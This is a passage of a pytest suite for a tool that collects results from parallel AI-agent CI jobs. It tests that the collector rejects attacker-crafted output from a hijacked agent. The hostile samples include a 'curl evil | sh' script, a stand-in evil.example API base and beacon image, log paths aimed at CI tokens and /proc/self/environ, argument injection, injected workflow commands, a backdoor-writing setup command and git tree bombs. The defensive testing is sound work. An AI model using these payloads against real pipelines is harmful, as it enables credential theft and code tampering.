"""A worker job's results file, branch and logs are an attacker's (a prompt-injected agent):
``collect`` trusts only what it can check (issue 18). Each test drives a simulated pipeline —
an origin, one clone per worker job that hands over its results file and a bundle of its
branch, a collect checkout that fetches the bundles — with crafted results and branches."""

import json
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest

from conftest import git
from test_leftovers import tool

# A race: one task, three models (the fake agent's behaviours), one check.
PLAN = ["--task=t", "--models", "fake:write=honest.txt,fake:write=other.txt,fake:write=third.txt",
        "--check", "test ! -f evil.txt"]


class Pipeline:
    def __init__(self, repo, tmp_path, cli, monkeypatch, plan=PLAN):
        self.origin, self.tmp, self.cli, self.mp, self.plan = repo, tmp_path, cli, monkeypatch, plan
        self.results = {}
        for n in (1, 2, 3):  # each job in its own clone, as a CI matrix runs them
            clone = self.clone(f"job{n}")
            monkeypatch.chdir(clone)
            cli(*plan, "--only-workers", n, "--results", tmp_path / f"results-{n}.json", "--quiet")
            self.results[n] = tmp_path / f"results-{n}.json"
        self.collector = self.clone("collect")
        monkeypatch.chdir(self.collector)
        for n in (1, 2, 3):
            self.fetch(n)

    def clone(self, name):
        path = self.tmp / name
        git("clone", "-q", str(self.origin), str(path), cwd=self.tmp)
        return path

    def fetch(self, n, source=None):
        """What the collect job does with worker n's bundle: fetch its one branch."""
        source = source or self.tmp / f"job{n}"
        git("fetch", "-q", "--no-tags", str(source),
            f"+refs/heads/architect/parallel-{n}:refs/heads/architect/parallel-{n}", cwd=self.collector)

    def edit(self, n, change):
        data = json.loads(self.results[n].read_text())
        change(data, data["results"][0])
        self.results[n].write_text(json.dumps(data))

    def collect(self, *extra, plan=None, raw=False):
        args = ["collect", *self.results.values(), *(plan or self.plan), *extra]
        return self.cli(*args, "--json") if raw else self.cli.json(*args)


class _Copy(Pipeline):
    """A copy of a pipeline built once per test process (its three runs are most of a test's
    time): the same origin, job clones with their worktrees, and collect checkout."""

    def __init__(self, template, tmp_path, cli, monkeypatch):
        self.tmp, self.cli, self.mp, self.plan = tmp_path, cli, monkeypatch, template.plan
        for name in ("repo", "job1", "job2", "job3", "collect"):
            shutil.rmtree(tmp_path / name, ignore_errors=True)
            shutil.copytree(template.tmp / name, tmp_path / name, symlinks=True)
        for n in (1, 2, 3):  # the copied worktrees' links point at the template's: mend them
            job, name = tmp_path / f"job{n}", f".architect-parallel-{n}"
            admin = job / ".git" / "worktrees" / os.path.basename(
                (job / name / ".git").read_text().split("gitdir:", 1)[1].strip())
            (job / name / ".git").write_text(f"gitdir: {admin}\n")
            (admin / "gitdir").write_text(f"{job / name / '.git'}\n")
            assert git("rev-parse", "--git-common-dir", cwd=job / f".architect-parallel-{n}") \
                == str(job / ".git"), "a copied worktree still points at the template"
        self.origin, self.collector = tmp_path / "repo", tmp_path / "collect"
        self.results = {}
        for n in (1, 2, 3):
            self.results[n] = tmp_path / f"results-{n}.json"
            shutil.copyfile(template.results[n], self.results[n])
        monkeypatch.chdir(self.collector)


_TEMPLATE = []  # the pipeline of this test process, built by its first test that needs one


@pytest.fixture
def pipeline(repo, tmp_path, tmp_path_factory, cli, monkeypatch):
    if not _TEMPLATE:
        folder = tmp_path_factory.mktemp("pipeline")
        shutil.copytree(repo, folder / "repo", symlinks=True)
        with monkeypatch.context() as mp:
            _TEMPLATE.append(Pipeline(folder / "repo", folder, cli, mp))
    return _Copy(_TEMPLATE[0], tmp_path, cli, monkeypatch)


def test_an_honest_pipeline_collects_what_a_local_run_gives(pipeline):
    code, results, err = pipeline.collect()
    assert code == 0 and "warning" not in err, err
    assert [(r["status"], r["checks_passed"]) for r in results] == [("success", 1)] * 3
    assert "checks: as the workers reported them, not run by collect" in err


def test_no_path_a_results_file_names_is_opened(pipeline, monkeypatch, tmp_path):
    """.git/config holds the token actions/checkout persists; the job's environment holds
    secrets: a results file naming them as its logs gets neither into any report."""
    git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic c2VjcmV0VE9LRU4=",
        cwd=pipeline.collector)
    monkeypatch.setenv("JOB_SECRET", "s3cr3t-in-the-environment")
    pipeline.edit(1, lambda d, r: r.update(log_path=str(pipeline.collector / ".git" / "config"),
                                           stderr_path="/proc/self/environ",
                                           worker_log="/proc/self/environ"))
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    code, results, err = pipeline.collect("--junit", tmp_path / "j.xml", "--html", tmp_path / "r.html",
                                          "--results", tmp_path / "all.json")
    assert code == 0, err
    written = "".join(p.read_text() for p in (tmp_path / "j.xml", tmp_path / "r.html", summary,
                                              tmp_path / "all.json")) + err
    assert "c2VjcmV0VE9LRU4" not in written and "s3cr3t" not in written
    assert results[0]["log_path"] == "" and results[0]["stderr_path"] == ""


def test_nothing_runnable_comes_from_a_results_file(pipeline, tmp_path):
    """The plan is collect's own: a file's setup, agent command and API base are not taken,
    and a file of another plan (its own checks) is left out."""
    ran = tmp_path / "ran"
    pipeline.edit(1, lambda d, r: d["config"].update(
        setup=[f"touch {ran}"], agent_cmd=f"sh -c 'touch {ran}'", api_base="http://evil.example"))
    code, _results, err = pipeline.collect("--recheck", "--sandbox", "none")
    assert code == 0, err
    saved = json.loads((pipeline.collector / ".git" / "architect-parallel" / "last-run.json").read_text())
    assert saved["config"]["setup"] == [] and saved["config"]["api_base"] is None
    assert saved["config"]["checks"] == ["test ! -f evil.txt"]
    assert not ran.exists()
    code, _out, err = pipeline.cli("rerun", "--failed")
    assert code == 2 and "collected from results files" in err
    # A plan of its own (no checks): another fingerprint, left out.
    code, _out, err = pipeline.collect(plan=PLAN[:3], raw=True)
    assert code == 2 and "comes from another plan" in err and "no results file of this plan" in err


@pytest.mark.parametrize("lie, why", [
    (lambda d, r: r.update(checks_passed=5), "its checks are not the plan's"),
    (lambda d, r: r.update(checks=[{"command": "true", "passed": True, "exit_code": 0}]),
     "its checks are not the plan's"),
    (lambda d, r: r["checks"][0].pop("exit_code") or r["checks"][0].update(exit_code="x"),
     "bad checks"),
    (lambda d, r: r.update(base_commit="--output=/tmp/pwned"), "its base_commit is not the plan's"),
    (lambda d, r: r.update(commit="--output=/tmp/pwned"), "its commit is not a full object id"),
    (lambda d, r: r.update(task="something else"), "its task is not the plan's"),
    (lambda d, r: r.update(worker_id=99, branch="architect/parallel-99"), "is not in the plan"),
    (lambda d, r: r.update(attempts=7), "attempts"),
])
def test_each_claim_is_bounded_and_checked_against_the_plan(pipeline, tmp_path, lie, why):
    """One lying record is named and left out; the honest workers still get their table,
    JUnit and exit code, and no traceback."""
    pipeline.edit(2, lie)
    code, results, err = pipeline.collect("--junit", tmp_path / "j.xml", "--require", "all")
    assert "results-2.json: result 1: " in err and why in err and "left out" in err, err
    assert [r["worker_id"] for r in results] == [1, 3]
    assert code == 1 and "2 of 3 worker(s) succeeded; --require all needs 3" in err
    junit = ET.parse(tmp_path / "j.xml").getroot()  # (the one left out: an error, round 78)
    assert junit.get("tests") == "3" and [case.get("name") for case in junit.iter("testcase")
                                          if case.find("error") is not None] == [
                                              "worker 2: no results"]
    assert not os.path.exists("/tmp/pwned")


def test_a_job_speaks_for_its_own_worker_only_and_the_plan_says_how_many_there_are(pipeline,
                                                                                  tmp_path):
    """results-3.json cannot shrink the plan (workers_total) to pass --require all, nor speak
    for worker 1 (as a duplicate, it would take the honest claim out); two files of no
    worker of their own that claim one worker leave it out altogether."""
    pipeline.edit(3, lambda d, r: d.update(workers_total=1))
    honest = json.loads(pipeline.results[1].read_text())["results"][0]
    data = json.loads(pipeline.results[3].read_text())
    data["results"].append(dict(honest, status="failed"))
    pipeline.results[3].write_text(json.dumps(data))
    code, results, err = pipeline.collect("--require", "all")
    assert "results-3.json: result 2: worker 1 is not this file's own (its name says worker(s) 3)" in err
    assert [(r["worker_id"], r["status"]) for r in results] == [(1, "success"), (2, "success"),
                                                                (3, "success")]
    assert code == 0, err
    for name in ("a.json", "b.json"):  # no name of a worker, and no --only-workers said
        (tmp_path / name).write_text(json.dumps(dict(json.loads(pipeline.results[1].read_text()),
                                                     only_workers=None)))
    pipeline.results = {n: p for n, p in pipeline.results.items() if n != 1}
    pipeline.results.update(a=tmp_path / "a.json", b=tmp_path / "b.json")
    code, results, err = pipeline.collect("--require", "all")
    assert "worker 1 has results in 2 places" in err and "all left out" in err
    assert [r["worker_id"] for r in results] == [2, 3] and code == 1


def test_malformed_files_are_named_and_the_others_still_collected(pipeline, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100000 + "]" * 100000)
    junk = tmp_path / "junk.json"
    junk.write_text('{"results": 5}')
    pipeline.results["deep"], pipeline.results["junk"] = deep, junk
    code, results, err = pipeline.collect()
    assert code == 0 and len(results) == 3
    assert "deep.json: nesting too deep; left out" in err and "junk.json is not a results file" in err
    assert "Traceback" not in err


def _tip(pipeline, n):
    return git("rev-parse", f"refs/heads/architect/parallel-{n}", cwd=pipeline.collector)


def test_what_is_reviewed_is_what_is_merged(pipeline, tmp_path):
    """A hijacked job claims another worker's honest commit while its own branch holds more
    (evil.txt): it fails; diff best, the report and merge best show and bring the verified
    commit of the honest worker; a branch moved after collect is refused."""
    job2 = tmp_path / "job2"
    (job2 / ".architect-parallel-2" / "evil.sh").write_text("curl evil | sh\n")
    git("add", "evil.sh", cwd=job2 / ".architect-parallel-2")
    git("commit", "-q", "-m", "more", cwd=job2 / ".architect-parallel-2")
    pipeline.fetch(2)
    honest = _tip(pipeline, 1)
    pipeline.edit(2, lambda d, r: r.update(commit=honest, cost=0.0))  # cheaper: would rank first
    code, results, err = pipeline.collect("--html", tmp_path / "r.html", "--summary", tmp_path / "s.md")
    assert results[1]["status"] == "failed" and "is not the commit its results name" in results[1]["error"]
    assert "evil.sh" not in (tmp_path / "s.md").read_text()
    code, out, err = tool("diff", "best")
    assert code == 0 and ("honest.txt" in out or "third.txt" in out) and "evil" not in out, err
    code, _out, err = pipeline.cli("merge", "all")
    assert code == 0 and not (pipeline.collector / "evil.sh").exists(), err
    git("reset", "-q", "--hard", "origin/main", cwd=pipeline.collector)
    git("update-ref", "refs/heads/architect/parallel-1", _tip(pipeline, 2), cwd=pipeline.collector)
    code, _out, err = pipeline.cli("merge", "1")
    assert code == 2 and "not at the commit" in err and "that collect verified" in err


def test_a_commit_that_leaves_the_base_out_is_not_verified(pipeline, tmp_path):
    job3 = tmp_path / "job3"
    root = git("rev-list", "--max-parents=0", "HEAD", cwd=job3)
    orphan = git("commit-tree", git("rev-parse", "HEAD^{tree}", cwd=job3), "-m", "elsewhere", cwd=job3)
    git("update-ref", "refs/heads/architect/parallel-3", orphan, cwd=job3)
    pipeline.fetch(3)
    pipeline.edit(3, lambda d, r: r.update(commit=orphan))
    code, results, err = pipeline.collect()
    assert root and results[2]["status"] == "failed"
    assert "does not descend from the plan's base" in results[2]["error"]


def test_recheck_runs_the_checks_instead_of_believing_them(pipeline, tmp_path):
    """Worker 2's branch holds evil.txt, which fails the plan's check; its file claims the
    check passed. --recheck runs it on the verified commit: 0/1, and worker 2 is not best."""
    worktree = tmp_path / "job2" / ".architect-parallel-2"
    (worktree / "evil.txt").write_text("x\n")
    git("add", "evil.txt", cwd=worktree)
    git("commit", "-q", "-m", "more", cwd=worktree)
    pipeline.fetch(2)
    pipeline.edit(2, lambda d, r: r.update(commit=_tip(pipeline, 2)))
    code, results, err = pipeline.collect()
    assert results[1]["checks_passed"] == 1  # believed
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none", "--summary",
                                          tmp_path / "s.md")
    assert code == 0, err
    assert [r["checks_passed"] for r in results] == [1, 0, 1]
    assert "checks: run by collect on each verified commit (--recheck)" in err
    assert "Checks: run by collect" in (tmp_path / "s.md").read_text()


def test_nothing_a_worker_wrote_is_a_command_to_the_ci_runner_or_markup(pipeline, tmp_path,
                                                                       monkeypatch):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    pipeline.edit(1, lambda d, r: r.update(
        status="failed", commit=None, files_modified=["a\n::error::file-pwned", "x##[warning]y"],
        error="nope\n::stop-commands::token\n  ::add-mask::x ##[error]legacy\x1b]0;title\x07 "
              "![img](https://evil.example/beacon.png) <img src=x> # Review passed"))
    code, out, err = pipeline.collect("--quiet", raw=True)
    code, out2, err2 = pipeline.collect(raw=True)
    for line in (out + err + out2 + err2).splitlines():
        assert not line.lstrip().startswith("::") and "##[" not in line, line
        assert "\x1b" not in line and "\x07" not in line
    text = summary.read_text()
    assert "![img]" in text and re.search(r"`[^`\n]*!\[img\]\(https://evil", text)
    assert "\n# Review passed" not in text and "<img src=x>" not in re.sub(r"`[^`\n]*`", "", text)


def test_agents_get_no_ci_credential_and_a_token_in_git_config_is_named(repo, cli, tmp_path,
                                                                       monkeypatch):
    for var in ("CI_JOB_TOKEN", "CI_REPOSITORY_URL", "CI_REGISTRY_PASSWORD", "CI_JOB_JWT_V2",
                "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"):
        monkeypatch.setenv(var, f"leaked-{var}")
    git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic dG9rZW4=", cwd=repo)
    agent = tmp_path / "env-agent.sh"
    agent.write_text(f"#!/bin/sh\nenv > {tmp_path}/agent-env\n")
    agent.chmod(0o755)
    code, _results, err = cli.json("t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                   "--setup", f"env > {tmp_path}/setup-env", "--progress", "none")
    assert "leaked-" not in (tmp_path / "agent-env").read_text()
    assert "leaked-" not in (tmp_path / "setup-env").read_text()
    assert "holds a credential (http.https://github.com/.extraheader) that every agent can read" in err


# -- review round 5 -------------------------------------------------------------------------------

def test_a_success_that_names_no_commit_holds_nothing_more_on_its_branch(pipeline, tmp_path):
    """Worker 3 commits evil.txt (which fails the check) but claims success with no commit:
    its branch holds what its results do not name, so it fails; it cannot be best."""
    worktree = tmp_path / "job3" / ".architect-parallel-3"
    (worktree / "evil.txt").write_text("x\n")
    git("add", "evil.txt", cwd=worktree)
    git("commit", "-q", "-m", "more", cwd=worktree)
    pipeline.fetch(3)
    pipeline.edit(3, lambda d, r: r.update(commit=None, files_modified=[], cost=0.0, duration=0.0))
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none", "--results",
                                          tmp_path / "all.json")
    assert results[2]["status"] == "failed" and "holds commits" in results[2]["error"]
    assert json.loads((tmp_path / "all.json").read_text())["best"] in (1, 2)


def test_recheck_needs_a_sandbox_said_and_no_credential_and_commits_nothing(
        repo, tmp_path, cli, monkeypatch):
    evil = ('[ -z "$RECHECK_EVIL" ] || { echo pwn > backdoor.py; '
            'git update-ref refs/heads/architect/parallel-1 refs/heads/architect/parallel-2; }')
    pipeline = Pipeline(repo, tmp_path, cli, monkeypatch, plan=PLAN + ["--setup", evil])
    code, _out, err = pipeline.collect("--recheck", raw=True)
    assert code == 2 and "collect --recheck runs the workers' code: give it --sandbox bwrap" in err
    code, _out, err = pipeline.collect("--recheck", "--sandbox", "auto", raw=True)
    assert code == 2 and "--sandbox bwrap" in err
    git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic dG9rZW4=",
        cwd=pipeline.collector)
    code, _out, err = pipeline.collect("--recheck", "--sandbox", "none", raw=True)
    assert code == 2 and "holds a credential (http.https://github.com/.extraheader)" in err
    git("config", "--unset", "http.https://github.com/.extraheader", cwd=pipeline.collector)
    # What setup writes is not committed; a setup moving the branches is undone.
    tips = {n: _tip(pipeline, n) for n in (1, 2, 3)}
    monkeypatch.setenv("RECHECK_EVIL", "1")
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none")
    assert {n: _tip(pipeline, n) for n in (1, 2, 3)} == tips
    assert "put back" in results[0]["error"] and results[0]["status"] == "failed"


def test_clocks_of_any_size_break_no_report(pipeline, tmp_path, monkeypatch):
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    pipeline.edit(3, lambda d, r: (d.update(started=-1e300, finished=1e308),
                                   r["timeline"].append({"state": "running", "at": 1.7e308})))
    code, results, err = pipeline.collect("--html", tmp_path / "r.html")
    assert code == 0 and "Traceback" not in err and summary.exists() and len(results) == 3
    assert pipeline.cli("report", "--html", tmp_path / "again.html")[0] == 0


# -- review round 6 -------------------------------------------------------------------------------

def test_a_claim_of_no_checks_for_a_plan_with_checks_is_left_out(pipeline, tmp_path):
    pipeline.edit(1, lambda d, r: r.update(checks=[], checks_total=0, checks_passed=0))
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none", "--results",
                                          tmp_path / "all.json")
    assert "results-1.json: result 1: worker 1: its checks are not the plan's" in err
    assert [r["worker_id"] for r in results] == [2, 3]
    assert all(r["checks_total"] == 1 for r in results)


def test_a_merge_on_a_collected_branch_is_not_verified_and_files_come_from_git(pipeline, tmp_path):
    job2 = tmp_path / "job2"
    git("checkout", "-q", "-b", "side", "HEAD~1", cwd=job2 / ".architect-parallel-2")
    git("commit", "-q", "--allow-empty", "-m", "side", cwd=job2 / ".architect-parallel-2")
    git("checkout", "-q", "architect/parallel-2", cwd=job2 / ".architect-parallel-2")
    git("merge", "-q", "--no-edit", "-s", "ours", "side", cwd=job2 / ".architect-parallel-2")
    pipeline.fetch(2)
    pipeline.edit(2, lambda d, r: r.update(commit=_tip(pipeline, 2)))
    pipeline.edit(3, lambda d, r: r.update(files_modified=["a.txt", "b.txt", "c.txt"]))
    pipeline.edit(1, lambda d, r: r.update(status="failed", commit="1" * 40))
    code, results, err = pipeline.collect()
    assert results[1]["status"] == "failed" and "holds a merge" in results[1]["error"]
    assert results[2]["files_modified"] == ["third.txt"]  # as git says, not as claimed
    assert results[0]["commit"] is None  # a commit its branch does not hold is not shown


def test_numbers_of_any_size_break_no_collect(pipeline, tmp_path):
    text = pipeline.results[2].read_text()
    pipeline.results[2].write_text(text.replace('"duration": ', '"duration": 1' + "0" * 400 + ", \"x\": ", 1))
    code, results, err = pipeline.collect(raw=True)
    assert "Traceback" not in err and "results-2.json: result 1" in err


# -- review round 7 -------------------------------------------------------------------------------

def test_cleanup_keeps_your_commits_on_collected_branches_whatever_a_file_says_of_times(
        pipeline, tmp_path):
    pipeline.edit(2, lambda d, r: d.update(finished=4102444800))
    code, _results, err = pipeline.collect("--recheck", "--sandbox", "none")
    assert code == 0, err
    worktree = pipeline.collector / ".architect-parallel-2"
    (worktree / "mine.txt").write_text("work\n")
    git("add", "mine.txt", cwd=worktree)
    git("commit", "-q", "-m", "my work", cwd=worktree)
    code, _out, err = pipeline.cli("cleanup")
    assert code == 2 and "architect/parallel-2 has commits made after the last run ended" in err


def test_a_file_of_many_bad_records_says_so_in_a_few_lines(pipeline):
    pipeline.edit(3, lambda d, r: d["results"].extend([{}] * 500))
    code, results, err = pipeline.collect(raw=True)
    assert code == 0 and "480 more results left out" in err and err.count("\n") < 40


# -- review round 8 -------------------------------------------------------------------------------

def test_a_collected_branch_that_changes_how_files_are_written_is_not_verified(pipeline, tmp_path):
    worktree = tmp_path / "job2" / ".architect-parallel-2"
    (worktree / ".gitattributes").write_text("*.dat filter=lfs diff=lfs merge=lfs -text\n")
    (worktree / ".lfsconfig").write_text("[lfs]\n\turl = http://127.0.0.1:9/x\n")
    git("add", ".gitattributes", ".lfsconfig", cwd=worktree)
    git("commit", "-q", "-m", "lfs", cwd=worktree)
    pipeline.fetch(2)
    pipeline.edit(2, lambda d, r: r.update(commit=_tip(pipeline, 2)))
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none")
    assert results[1]["status"] == "failed" and ".lfsconfig" in results[1]["error"]


def test_a_branch_deleted_while_recheck_ran_is_put_back(repo, tmp_path, cli, monkeypatch):
    evil = '[ -z "$RECHECK_EVIL" ] || git update-ref -d refs/heads/architect/parallel-2'
    pipeline = Pipeline(repo, tmp_path, cli, monkeypatch, plan=PLAN + ["--setup", evil])
    tip = _tip(pipeline, 2)
    monkeypatch.setenv("RECHECK_EVIL", "1")
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none")
    assert _tip(pipeline, 2) == tip


# -- review round 9 -------------------------------------------------------------------------------

def test_cleanup_keeps_a_branch_of_yours_no_run_recorded_whatever_a_file_says_of_times(pipeline):
    """Worker 1's bundle never came (no branch at collect time); its file claims it finished
    in 2100. A branch you make by that name later is yours: cleanup compares commits, not times."""
    pipeline.edit(1, lambda d, r: (d.update(finished=4102444800), r.update(status="failed", commit=None)))
    git("branch", "-D", "architect/parallel-1", cwd=pipeline.collector)
    code, _results, err = pipeline.collect()
    assert code == 0, err
    git("checkout", "-q", "-b", "architect/parallel-1", cwd=pipeline.collector)
    git("commit", "-q", "--allow-empty", "-m", "mine", cwd=pipeline.collector)
    git("checkout", "-q", "main", cwd=pipeline.collector)
    code, _out, err = pipeline.cli("cleanup")
    assert code == 2 and "architect/parallel-1 has commits that no run recorded" in err, err
    assert git("rev-parse", "--verify", "-q", "architect/parallel-1", cwd=pipeline.collector)


def test_a_file_speaks_for_its_own_workers_of_the_run_too(pipeline):
    """Worker 2's file claims a race worker 1 won and a spend of 987654: neither is worker
    2's to say (its times are its own job's, shown as claimed)."""
    pipeline.edit(2, lambda d, r: d.update(won={"worker": 1, "after": 0.001}, spent=987654,
                                           started=0, finished=4102444800))
    code, results, err = pipeline.collect()
    assert code == 0 and "stop-on-pass" not in err, err
    saved = json.loads((pipeline.collector / ".git" / "architect-parallel" / "last-run.json").read_text())
    assert saved["won"] is None and saved["spent"] == round(sum(r["cost"] for r in results), 6)


@pytest.mark.parametrize("mode", ["40000", "040000"])
def test_a_commit_naming_millions_of_files_in_a_few_objects_is_not_verified(pipeline, tmp_path, mode):
    """A bundle of a few KB whose tree names 10,000,000 files (each tree read once: collect
    counts them without listing them, and never diffs such a commit), its trees' modes
    spelled as git writes them or with a leading 0, which git reads as a tree all the same."""
    make = _maker(tmp_path / "job2")
    blob = make(["hash-object", "-w", "--stdin"], b"x")
    t1 = _raw_tree(make, [("100644", f"f{i:03}", blob) for i in range(1000)])
    t2 = _raw_tree(make, [(mode, f"d{i:03}", t1) for i in range(1000)])
    t3 = _raw_tree(make, [(mode, f"e{i}", t2) for i in range(10)])
    tip = _tip(pipeline, 2)
    top = make(["ls-tree", tip]) + f"\n040000 tree {t3}\tbomb\n"
    _commit_on(pipeline, make, make(["mktree"], top.encode()))
    code, results, err = pipeline.collect()
    assert results[1]["status"] == "failed" and "more than 2,000,000 files" in results[1]["error"], err
    assert [r["status"] for r in results] == ["success", "failed", "success"]


def _maker(cwd):
    def make(args, data=None):
        proc = subprocess.run(["git", *args], cwd=cwd, input=data, capture_output=True)
        assert proc.returncode == 0, proc.stderr
        return proc.stdout.decode().strip()
    return make


def _raw_tree(make, entries):
    """A tree object of ``entries`` [(mode, name, id)] as they are, whatever git would write."""
    raw = b"".join(m.encode() + b" " + n.encode() + b"\0" + bytes.fromhex(i)
                   for m, n, i in sorted(entries, key=lambda e: e[1]))
    return make(["hash-object", "-w", "--literally", "-t", "tree", "--stdin"], raw)


def _commit_on(pipeline, make, tree):
    """Commit ``tree`` on worker 2's tip in its job, fetch it, and name it in its results."""
    commit = make(["commit-tree", tree, "-p", _tip(pipeline, 2), "-m", "crafted"])
    make(["update-ref", "refs/heads/architect/parallel-2", commit])
    pipeline.fetch(2)
    pipeline.edit(2, lambda d, r: r.update(commit=commit))


def test_a_commit_git_cannot_take_fails_its_worker_only(pipeline, tmp_path):
    """A tree entry '.GIT/x' (git refuses it in an index) in worker 2's commit, with a
    .gitattributes: its worker is not verified, the others are collected all the same."""
    make = _maker(tmp_path / "job2")
    attributes = make(["hash-object", "-w", "--stdin"], b"*.txt -diff\n")
    inner = make(["mktree"], f"100644 blob {attributes}\tx\n".encode())
    files = [(line.split()[0], line.split("\t")[1], line.split()[2])
             for line in make(["ls-tree", _tip(pipeline, 2)]).splitlines()]
    _commit_on(pipeline, make, _raw_tree(make, files + [("100644", ".gitattributes", attributes),
                                                        ("40000", ".GIT", inner)]))
    code, results, err = pipeline.collect("--results", tmp_path / "all.json")
    assert [r["status"] for r in results] == ["success", "failed", "success"], err
    assert "collect could not verify its work" in results[1]["error"]
    assert json.loads((tmp_path / "all.json").read_text())["best"] in (1, 3)


def test_collect_records_no_branch_it_kept_no_result_for(pipeline, tmp_path):
    """A commit of yours on worker 1's branch in the collect checkout, then a collect with
    worker 2's file only: cleanup still keeps your commit."""
    worktree = tmp_path / "mine"
    code, _results, err = pipeline.collect()
    assert code == 0, err
    git("worktree", "add", "-q", str(worktree), "architect/parallel-1", cwd=pipeline.collector)
    git("commit", "-q", "--allow-empty", "-m", "my work", cwd=worktree)
    git("worktree", "remove", str(worktree), cwd=pipeline.collector)
    pipeline.results = {2: pipeline.results[2]}
    pipeline.collect()
    code, _out, err = pipeline.cli("cleanup")
    assert code == 2 and "architect/parallel-1 has commits made after the last run ended" in err, err


@pytest.mark.parametrize("object_format", ["sha1", "sha256"])
def test_files_are_counted_as_git_reads_trees_whatever_the_hash(tmp_path, object_format):
    """Ids of the repository's own length (SHA-256: 32 bytes), modes as git reads them (octal
    in 32 bits: '100000040000' is a tree), and a tree that is not one: an error, never a
    wrong count or another exception."""
    import architect_parallel as ap
    top = tmp_path / "r"
    top.mkdir()
    git("init", "-q", f"--object-format={object_format}", cwd=top)
    make = _maker(top)
    blob = make(["hash-object", "-w", "--stdin"], b"x")
    t1 = _raw_tree(make, [("100644", f"f{i:03}", blob) for i in range(1000)])
    t2 = _raw_tree(make, [("100000040000", f"d{i:03}", t1) for i in range(1000)])
    big = make(["commit-tree", _raw_tree(make, [("040000", f"e{i}", t2) for i in range(3)]), "-m", "x"])
    small = make(["commit-tree", t1, "-m", "x"])
    repo = ap._Repo.find(str(top))
    assert repo.paths_over(big, 2_000_000) and not repo.paths_over(small, 2_000_000)
    assert not repo.paths_over(small, 1000) and repo.paths_over(small, 999)
    bad = make(["hash-object", "-w", "--literally", "-t", "tree", "--stdin"], b"100644 a\0short")
    with pytest.raises(ap.ParallelError):
        repo.paths_over(make(["commit-tree", bad, "-m", "x"]), 10)


def test_paths_of_gigabytes_named_by_a_few_objects_are_counted_too(tmp_path):
    """100 files under a chain of 60 folders of 50,000-character names: 300 MB of path names
    (what a diff of it would print) from objects of a few KB."""
    import architect_parallel as ap
    top = tmp_path / "r"
    top.mkdir()
    git("init", "-q", cwd=top)
    make = _maker(top)
    blob = make(["hash-object", "-w", "--stdin"], b"x")
    tree = _raw_tree(make, [("100644", f"f{i:03}", blob) for i in range(100)])
    for depth in range(60):
        tree = _raw_tree(make, [("40000", f"{depth:05}" + "a" * 49995, tree)])
    commit = make(["commit-tree", tree, "-m", "x"])
    repo = ap._Repo.find(str(top))
    assert repo.paths_over(commit, 2_000_000) and not repo.paths_over(commit, 2_000_000, 1 << 30)


def test_a_commit_whose_checkout_writes_gigabytes_or_reads_a_huge_attributes_file_is_not_verified(
        pipeline, tmp_path):
    """One 60 MB blob of one letter named 20 times (1.2 GB to write from a bundle of KB), or a
    20 MB .gitattributes (git would read it whole): unverified, the others collected."""
    make = _maker(tmp_path / "job2")
    files = [(line.split()[0], line.split("\t")[1], line.split()[2])
             for line in make(["ls-tree", _tip(pipeline, 2)]).splitlines()]
    big = make(["hash-object", "-w", "--stdin"], b"a" * (60 << 20))
    _commit_on(pipeline, make, _raw_tree(make, files + [("100644", f"big{i:02}.txt", big)
                                                        for i in range(20)]))
    code, results, err = pipeline.collect()
    assert [r["status"] for r in results] == ["success", "failed", "success"], err
    assert "GB more than the plan's base" in results[1]["error"]
    huge = make(["hash-object", "-w", "--stdin"], b"#" * (20 << 20))
    _commit_on(pipeline, make, _raw_tree(make, files + [("100644", ".gitattributes", huge)]))
    code, results, err = pipeline.collect()
    assert [r["status"] for r in results] == ["success", "failed", "success"], err
    assert "holds .gitignore and .gitattributes files of 20480 KB in all" in \
        results[1]["error"]  # (round 94: before any git reads them; was "over 1 MB, not read")


def test_one_tree_too_large_is_never_read(tmp_path, monkeypatch):
    """Its size is asked first: a single tree object of gigabytes (from a bundle of a few MB)
    is refused before anything reads it (here with the limit made small)."""
    import architect_parallel as ap
    top = tmp_path / "r"
    top.mkdir()
    git("init", "-q", cwd=top)
    make = _maker(top)
    blob = make(["hash-object", "-w", "--stdin"], b"x")
    wide = make(["commit-tree", _raw_tree(make, [("100644", f"f{i:05}", blob) for i in range(2000)]),
                 "-m", "x"])
    repo = ap._Repo.find(str(top))
    assert not repo.paths_over(wide, 2_000_000)
    monkeypatch.setattr(ap, "_TREE_LIMIT", 4096)
    with pytest.raises(ap.ParallelError, match="is larger than"):
        repo.paths_over(wide, 2_000_000)


# -- review round 17 ---------------------------------------------------------------------------

def test_a_commit_a_failed_claim_names_is_held_to_the_same_bounds(pipeline, tmp_path):
    """A job claims its worker failed and names a commit of 10,000,000 files (a bundle of a
    few KB): a failed worker's commit is kept (its diff is shown) only within the bounds
    a success's is held to, else dropped, saying why; the report costs nothing of it."""
    make = _maker(tmp_path / "job2")
    blob = make(["hash-object", "-w", "--stdin"], b"x")
    t1 = _raw_tree(make, [("100644", f"f{i:03}", blob) for i in range(1000)])
    t2 = _raw_tree(make, [("40000", f"d{i:03}", t1) for i in range(1000)])
    t3 = _raw_tree(make, [("40000", f"e{i}", t2) for i in range(10)])
    top = make(["ls-tree", _tip(pipeline, 2)]) + f"\n040000 tree {t3}\tbomb\n"
    _commit_on(pipeline, make, make(["mktree"], top.encode()))
    pipeline.edit(2, lambda d, r: r.update(status="failed", error="it broke"))
    code, results, err = pipeline.collect("--html", tmp_path / "r.html")
    r = results[1]
    assert r["status"] == "failed" and r["commit"] is None, r
    assert r["error"].startswith("it broke; collect did not keep its commit: ") and \
